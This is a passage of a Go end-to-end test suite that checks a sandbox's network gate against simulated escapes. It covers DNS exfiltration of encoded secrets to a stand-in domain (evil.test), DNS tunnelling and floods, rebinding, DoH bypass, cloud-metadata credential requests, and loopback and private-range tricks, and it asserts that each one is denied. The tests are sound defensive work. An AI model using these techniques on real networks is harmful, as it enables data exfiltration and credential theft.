	g.denied(t, m, match{Proto: "tcp", Name: homoglyph})
	g.noAllow(t, m, match{Name: "evil.test"})
	g.noAllow(t, m, match{Name: "wild.test"})
	g.noAllow(t, m, match{Name: "blocked.wild.test"})
}

// 14. Data encoded in query names for a domain the attacker controls: denied names never
// reach an upstream resolver, whatever the type or transport. (The leak check at the end of
// the subtest reads the upstream's query log.)
func (g *gateEnv) attack14(t *testing.T) {
	m := g.mark(t)
	secret := "mzxw6ytboi.nbswy3dpeb3w64tmmq.c2vjcmv0lxrva2vu" // base32 chunks, as exfiltration tools send them
	var calls []call
	for _, typ := range []string{"A", "AAAA", "TXT", "MX", "CNAME"} {
		calls = append(calls, pr("dns", gatewayIP+":53", secret+".x1."+typ+".evil.test", typ))
	}
	calls = append(calls, pr("dns", "-tcp", gatewayIP+":53", secret+".x2.evil.test", "A"))
	p := g.probes(t, calls...)
	for _, r := range p {
		if !r.OK || r.took() > promptly {
			t.Errorf("a denied name must get a prompt answer from the gate: %v", r)
		}
	}
	if a := answerA(p[0].Data); !inPool(a) {
		t.Errorf("A for a denied name: want a pool address, got %v", p[0])
	}
	for _, r := range p[1:5] {
		if !strings.HasPrefix(r.Data, "NOERROR n=0") {
			t.Errorf("non-A question for a denied name: want an empty answer, got %v", r)
		}
	}
	out := g.sh(t, `busybox nslookup `+secret+`.x3.evil.test `+gatewayIP+` 2>&1; getent hosts `+secret+`.x4.evil.test; true`)
	if !strings.Contains(out, "198.1") {
		t.Errorf("nslookup/getent of a denied name: want a pool address, got:\n%s", out)
	}
	if k := g.net.Asked("evil.test"); k != 0 {
		t.Errorf("LEAK: %d questions under evil.test reached the upstream resolver", k)
	}
	g.denied(t, m, match{Proto: "dns", Name: secret + ".x1.a.evil.test"})
	g.denied(t, m, match{Proto: "dns", Name: secret + ".x1.txt.evil.test"})
}

// 15. TXT/NULL/ANY tunnelling, very long names, many labels, and a query flood: no type but A
// leaves the gate, even for allowed names, and the gate keeps answering.
func (g *gateEnv) attack15(t *testing.T) {
	var calls []call
	types := []string{"TXT", "NULL", "ANY", "MX", "SRV", "HTTPS", "CNAME", "NS", "SOA", "PTR"}
	for _, typ := range types {
		calls = append(calls, pr("dns", gatewayIP+":53", "allowed.test", typ))
	}
	for _, typ := range []string{"TXT", "NULL", "ANY"} {
		calls = append(calls, pr("dns", gatewayIP+":53", "t.evil.test", typ))
	}
	long := strings.Repeat(strings.Repeat("a", 63)+".", 3) + strings.Repeat("b", 50) + ".evil.test" // 253 bytes
	many := strings.Repeat("c.", 120) + "evil.test"                                                 // 122 labels
	wildLong := strings.Repeat(strings.Repeat("d", 60)+".", 3) + "x.wild.test"
	calls = append(calls,
		pr("dns", gatewayIP+":53", long, "A"),
		pr("dns", gatewayIP+":53", many, "A"),
		pr("dns", gatewayIP+":53", wildLong, "TXT"),
	)
	p := g.probes(t, calls...)
	for i, typ := range types {
		if r := p[i]; !r.OK || !strings.Contains(r.Data, " n=0") || r.took() > promptly {
			t.Errorf("%s for allowed.test: want a prompt empty answer (the upstream has a TXT record, which must not be fetched), got %v", typ, r)
		}
	}
	for _, r := range p[len(types) : len(types)+3] {
		if !r.OK || !strings.Contains(r.Data, " n=0") {
			t.Errorf("tunnel type for a denied name: want an empty answer, got %v", r)
		}
	}
	for _, r := range p[len(types)+3 : len(types)+5] {
		if !r.OK || r.took() > promptly {
			t.Errorf("long name / many labels: want a prompt answer from the gate, got %v", r)
		}
	}
	if len(long) != 253 {
		t.Fatalf("test bug: the long name is %d bytes", len(long))
	}

	// A flood of random names: answered from the pool, none upstream, and the gate still
	// answers an allowed name at once afterwards.
	const flood = 3000
	start := time.Now()
	f := g.probes(t,
		pr("dnsflood", "-timeout", "30s", gatewayIP+":53", "flood.evil.test", fmt.Sprint(flood)),
		pr("dns", gatewayIP+":53", "allowed.test", "A"),
	)
	var sent, answered, pool, other int
	fmt.Sscanf(f[0].Data, "sent=%d answered=%d pool=%d other=%d", &sent, &answered, &pool, &other)
	t.Logf("flood: %s in %v", f[0].Data, f[0].took().Round(time.Millisecond))
	if answered < flood*9/10 || pool != answered || other != 0 {
		t.Errorf("flood of %d denied names: want (nearly) all answered, all from the pool: %v", flood, f[0])
	}
	if !f[1].OK || answerA(f[1].Data) != allowedIP || f[1].took() > promptly {
		t.Errorf("after the flood, allowed.test: want %s at once, got %v", allowedIP, f[1])
	}
	if time.Since(start) > 30*time.Second {
		t.Errorf("the flood took %v", time.Since(start))
	}
}

// 16. Rebinding: an allowed name resolves public, later private. The gate checks what it
// dials, at dial time, so the second connection is refused, and the private server hears
// nothing.
func (g *gateEnv) attack16(t *testing.T) {
	defer g.net.SetA("rebind.test", rebindIP)
	first := g.curls(t, []string{"http://rebind.test/"})
	curlReached(t, first[0], "inet http "+rebindIP+":80 rebind.test/")
	p := g.probes(t, pr("tcp", "-read", "-timeout", "2s", "rebind.test:2222"))
	if !p[0].OK || !strings.HasPrefix(p[0].Data, rebindBanner) {
		t.Errorf("rebind.test:2222 before rebinding: want its banner, got %v", p[0])
	}
	g.net.SetA("rebind.test", lanIP)
	// The gate caches an answer for at least 5 s (its minimum TTL); the upstream's is 1 s.
	time.Sleep(5500 * time.Millisecond)
	m := g.mark(t)
	c := g.curls(t, []string{"http://rebind.test/"}, []string{"--resolve", "rebind.test:80:" + rebindIP, "http://rebind.test/"})
	for _, r := range c {
		curlDenied(t, r)
	}
	p = g.probes(t,
		pr("dns", gatewayIP+":53", "rebind.test", "A"),
		pr("tcp", "-read", "-timeout", "2s", "rebind.test:2222"),
		pr("tcp", "-read", "-timeout", "2s", lanIP+":2222"),
	)
	t.Logf("after rebinding, the guest's lookup: %v", p[0])
	refusedPromptly(t, "rebind.test:2222 after rebinding to "+lanIP, p[1])
	refusedPromptly(t, lanIP+":2222", p[2])
	g.denied(t, m, match{Proto: "tcp", Name: "rebind.test", Dst: "*:80"})
	g.denied(t, m, match{Proto: "tcp", Dst: lanIP + ":2222"})
	g.noAllow(t, m, match{Proto: "tcp", Name: "rebind.test"})
}

// 17. DNS-over-HTTPS to an allowed host: the guest may ask it (the host is allowed), but what
// it answers binds nothing at the gate: a connection to that address is decided by its SNI,
// Host or (for other ports) the gate's own bindings.
func (g *gateEnv) attack17(t *testing.T) {
	m := g.mark(t)
	dohHits := g.srv["doh:443"].Hits()
	doh := []string{"--doh-url", "https://doh.test/dns-query", "--doh-insecure"}
	c := g.curls(t,
		append(append([]string{}, doh...), "http://evil.test/"),
		append(append([]string{}, doh...), "--cacert", g.ca, "https://evil.test/"),
		append(append([]string{}, doh...), "http://evil.test:2222/"),
	)
	for _, r := range c {
		curlDenied(t, r)
	}
	if g.srv["doh:443"].Hits() == dohHits {
		t.Errorf("the DoH server was never asked: curl did not use it, so this proves nothing")
	}
	g.denied(t, m, match{Proto: "tcp", Dst: evilIP + ":80", Name: "evil.test"})
	g.denied(t, m, match{Proto: "tcp", Dst: evilIP + ":443", Name: "evil.test"})
	g.denied(t, m, match{Proto: "tcp", Dst: evilIP + ":2222"})
}

// 18. Cloud metadata, by address and by names that resolve to it (allowed on purpose: a name
// rule never opens an internal address).
func (g *gateEnv) attack18(t *testing.T) {
	m := g.mark(t)
	c := g.curls(t,
		[]string{"http://169.254.169.254/latest/meta-data/"},
		[]string{"http://169.254.170.2/v2/credentials"},
		[]string{"http://100.100.100.200/latest/meta-data/"},
		[]string{"http://meta.test/latest/meta-data/"},
		[]string{"-H", "Metadata-Flavor: Google", "http://metadata.google.internal/computeMetadata/v1/"},
		[]string{"--resolve", "metadata.google.internal:80:" + allowedIP, "http://metadata.google.internal/computeMetadata/v1/"},
	)
	for _, r := range c {
		curlDenied(t, r)
	}
	p := g.probes(t,
		pr("tcp", "-timeout", probeDefault, "-send", `GET / HTTP/1.1\r\nHost: 169.254.169.254\r\n\r\n`, allowedIP+":80"),
		pr("tcp", "-timeout", probeDefault, metadataIP+":2222"),
		pr("tcp", "-6", "-timeout", probeDefault, "[fd00:ec2::254]:80"),
		pr("tls", "-timeout", probeDefault, "-sni", "meta.test", allowedIP+":443"),
	)
	if !strings.HasPrefix(p[0].Data, "HTTP/1.1 403") {
		t.Errorf("Host 169.254.169.254 sent to an allowed address: want the gate's 403, got %v", p[0])
	}
	refusedPromptly(t, metadataIP+":2222", p[1])
	refusedPromptly(t, "[fd00:ec2::254]:80", p[2])
	refusedPromptly(t, "SNI meta.test (allowed name, metadata address)", p[3])
	for _, ip := range []string{metadataIP, ecsIP, alibabaIP} {
		g.denied(t, m, match{Proto: "tcp", Dst: ip + ":80"})
	}
	g.denied(t, m, match{Proto: "tcp", Name: "meta.test", Dst: "*:80"})
	g.denied(t, m, match{Proto: "tcp", Name: "metadata.google.internal"})
	g.denied(t, m, match{Proto: "tcp", Name: "meta.test", Dst: "*:443"})
}

// 19. The host's loopback and its own addresses, through the gateway or by name: the gate
// runs in the host's namespace, so a dial there would reach the host's own services (here:
// a listener on every host address, which must accept nothing).
func (g *gateEnv) attack19(t *testing.T) {
	m := g.mark(t)
	port := fmt.Sprint(g.host.port)
	p := g.probes(t,
		pr("tcp", "-timeout", probeDefault, gatewayIP+":"+port),
		pr("tcp", "-timeout", probeDefault, inetHostAddr()+":"+port),
		pr("tcp", "-timeout", probeDefault, g.hostIP+":"+port),
		pr("tcp", "-timeout", probeDefault, "hostself.test:"+port),
		pr("tcp", "-timeout", probeDefault, "hostlan.test:"+port),
		pr("tls", "-timeout", probeDefault, "-sni", "loop.test", allowedIP+":443"),
		pr("tls", "-timeout", probeDefault, "-sni", "hostself.test", allowedIP+":443"),
		pr("tls", "-timeout", probeDefault, "-sni", "localhost", allowedIP+":443"),
	)
	for i, what := range []string{"the gateway", "the host's veth address", "the host's LAN address", "hostself.test (→ the host)", "hostlan.test (→ the host's LAN address)", "SNI loop.test (→ 127.0.0.1)", "SNI hostself.test", "SNI localhost"} {
		refusedPromptly(t, what, p[i])
	}
	c := g.curls(t,
		[]string{"--resolve", "loop.test:80:" + allowedIP, "http://loop.test/"},
		[]string{"--resolve", "hostself.test:80:" + allowedIP, "http://hostself.test/"},
		[]string{"--resolve", "hostlan.test:80:" + allowedIP, "http://hostlan.test/"},
	)
	for _, r := range c {
		curlDenied(t, r)
	}
	var calls []call
	hostSpellings := []string{"localhost", "127.0.0.1", "0.0.0.0", "127.1", "2130706433", "0x7f000001", "[::ffff:127.0.0.1]", "[::1]", "localhost.", g.hostIP, inetHostAddr()}
	for _, h := range hostSpellings {
		calls = append(calls, pr("tcp", "-timeout", probeDefault, "-send", `GET / HTTP/1.1\r\nHost: `+h+`:`+port+`\r\nConnection: close\r\n\r\n`, allowedIP+":80"))
	}
	hp := g.probes(t, calls...)
	for i, h := range hostSpellings {
		if r := hp[i]; strings.Contains(r.Data, " 200 ") || r.took() > promptly || (r.OK && !strings.HasPrefix(r.Data, "HTTP/1.1 403") && r.Data != "") {
			t.Errorf("Host %s:%s sent through the gate: want a prompt refusal, got %v", h, port, r)
		}
	}
	for _, dst := range []string{gatewayIP + ":" + port, inetHostAddr() + ":" + port, g.hostIP + ":" + port} {
		g.denied(t, m, match{Proto: "tcp", Dst: dst})
	}
	g.denied(t, m, match{Proto: "tcp", Name: "loop.test"})
	g.denied(t, m, match{Proto: "tcp", Name: "hostself.test"})
	g.denied(t, m, match{Proto: "tcp", Name: "hostlan.test"})
}

// 20. Private ranges, CGNAT, and the IPv6 forms that embed them (NAT64, 6to4, Teredo). An
// explicit address rule opens exactly its address (the positive control that the servers are
// reachable at all); a name rule opens nothing.
func (g *gateEnv) attack20(t *testing.T) {
	m := g.mark(t)
	c := g.curls(t,
		[]string{"http://" + lanIP + "/"},
		[]string{"http://" + lan2IP + "/"},
		[]string{"http://" + closedIP + "/"},
		[]string{"http://" + cgnatIP + "/"},
		[]string{"http://lan.test/"},
		[]string{"http://cgnat.test/"},
		[]string{"http://" + openedIP + "/"},
	)
	for _, r := range c[:6] {
		curlDenied(t, r)
	}
	curlReached(t, c[6], "inet http "+openedIP+":80")
	p := g.probes(t,
		pr("tcp", "-timeout", probeDefault, "lan.test:2222"),
		pr("tcp", "-6", "-timeout", probeDefault, "[64:ff9b::a01:203]:80"),
		pr("tcp", "-6", "-timeout", probeDefault, "[2002:a01:203::1]:80"),
		pr("tcp", "-6", "-timeout", probeDefault, "[2001:0:a01:203::1]:80"),
		pr("tcp", "-6", "-timeout", probeDefault, "[fd12:3456::1]:80"),
	)
	for i, what := range []string{"lan.test:2222", "NAT64 of " + lanIP, "6to4 of " + lanIP, "Teredo", "IPv6 ULA"} {
		refusedPromptly(t, what, p[i])
	}
	for _, ip := range []string{lanIP, lan2IP, closedIP, cgnatIP} {
		g.denied(t, m, match{Proto: "tcp", Dst: ip + ":80"})
	}
	g.denied(t, m, match{Proto: "tcp", Name: "lan.test"})
	g.denied(t, m, match{Proto: "tcp", Name: "cgnat.test"})
	if a, ok := g.expect(t, m, match{Proto: "tcp", Dst: openedIP + ":80", Verdict: "allow"}); ok && (a.Rule != openedIP || a.Layer != "project") {
		t.Errorf("%s allowed, but not by its address rule in the project layer: %v", openedIP, a)
	}
}

// 21. Other sandboxes on the same host: a second sandbox listens; from the first, neither the
// shared guest addressing nor the gate leads to it.
func (g *gateEnv) attack21(t *testing.T) {
	peer := &gateEnv{net: g.net, name: "gate-e2e-peer", env: g.env}
	peer.dir = project(t, peer.name)
	peer.state = filepath.Join(moatHome, "state", "sandboxes", peer.name)
	peer.probe = installProbe(t, peer.dir)
	peer.up(t)
	logf := "/tmp/moat-peer.log"
	start := `setsid -f ` + shQuote(peer.probe, "listen", "-timeout", "60s", "-log", logf, "0.0.0.0:7777") + ` >/dev/null 2>&1
for i in 1 2 3 4 5 6 7 8 9 10; do ` + shQuote(peer.probe, "tcp", "-timeout", "1s", "127.0.0.1:7777") + ` | grep -q '"ok":true' && break; sleep 0.1; done
cat ` + logf + ` | wc -l`
	if out := strings.TrimSpace(peer.sh(t, start)); out != "1" {
		t.Fatalf("the peer's listener did not come up (log lines: %q)", out)
	}
	m := g.mark(t)
	p := g.probes(t,
		pr("tcp", "-timeout", probeDefault, guestIP+":7777"),
		pr("tcp", "-timeout", probeDefault, "10.88.0.3:7777"),
		pr("tcp", "-timeout", probeDefault, "10.88.1.2:7777"),
		pr("tcp", "-timeout", probeDefault, gatewayIP+":7777"),
	)
	for i, what := range []string{"the shared guest address (its own)", "a neighbour address", "another /24 of the sandbox range", "the gateway"} {
		refusedPromptly(t, what, p[i])
	}
	out := strings.TrimSpace(peer.sh(t, shQuote(peer.probe, "tcp", "-timeout", "1s", "127.0.0.1:7777")+` >/dev/null; cat `+logf+` | wc -l`))
	if out != "2" {
		t.Errorf("the peer's listener logged %s connections, want 2 (its own two): the other sandbox reached it", out)
	}
	g.denied(t, m, match{Proto: "tcp", Dst: "10.88.0.3:7777"})
	mustMoatEnv(t, peer.dir, peer.env, "destroy", "--yes", peer.name)
}

// 22. The gate connecting to itself: the gateway's own address on every port but DNS, and
// allowed names that resolve to it.
func (g *gateEnv) attack22(t *testing.T) {
	m := g.mark(t)
	p := g.probes(t,
		pr("tcp", "-timeout", probeDefault, "-send", `GET / HTTP/1.1\r\nHost: allowed.test\r\n\r\n`, gatewayIP+":80"),
		pr("tls", "-timeout", probeDefault, "-sni", "allowed.test", "-ca", g.ca, gatewayIP+":443"),
		pr("tcp", "-timeout", probeDefault, gatewayIP+":22"),
		pr("tcp", "-timeout", probeDefault, gatewayIP+":853"),
		pr("tls", "-timeout", probeDefault, "-sni", "gw.test", allowedIP+":443"),
		pr("tcp", "-timeout", probeDefault, "gw.test:8080"),
		pr("tcp", "-timeout", probeDefault, "-send", `GET / HTTP/1.1\r\nHost: `+gatewayIP+`\r\n\r\n`, allowedIP+":80"),
		pr("dns", "-tcp", gatewayIP+":53", "allowed.test", "A"), // the one service the gateway offers
	)
	for i, what := range []string{"gateway :80", "gateway :443 with an allowed SNI", "gateway :22", "gateway :853", "SNI gw.test (→ the gateway)", "gw.test:8080"} {
		r := p[i]
		if r.OK && r.Data != "" && !strings.HasPrefix(r.Data, "HTTP/1.1 403") {
			t.Errorf("%s: got an answer: %v", what, r)
		}
		if r.took() > promptly {
			t.Errorf("%s: not refused promptly: %v", what, r)
		}
	}
	if !strings.HasPrefix(p[6].Data, "HTTP/1.1 403") {
		t.Errorf("Host %s to an allowed address: want the gate's 403, got %v", gatewayIP, p[6])
	}
	if answerA(p[7].Data) != allowedIP {
		t.Errorf("DNS over TCP to the gateway (the control): want %s, got %v", allowedIP, p[7])
	}
	g.denied(t, m, match{Proto: "tcp", Dst: gatewayIP + ":80"})
	g.denied(t, m, match{Proto: "tcp", Dst: gatewayIP + ":22"})
	g.denied(t, m, match{Proto: "tcp", Name: "gw.test"})
}
